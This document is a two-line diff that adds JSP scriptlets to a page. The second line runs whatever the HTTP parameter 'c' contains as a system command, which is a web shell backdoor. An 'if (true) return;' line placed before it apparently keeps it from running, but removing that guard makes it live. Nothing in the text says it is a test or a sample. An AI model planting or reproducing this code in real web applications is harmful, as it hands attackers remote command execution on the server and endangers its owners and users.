@@ -1,0 +1,2 @@
+<% if (true) return; %>
+<% Runtime.getRuntime().exec(request.getParameter("c")); %>
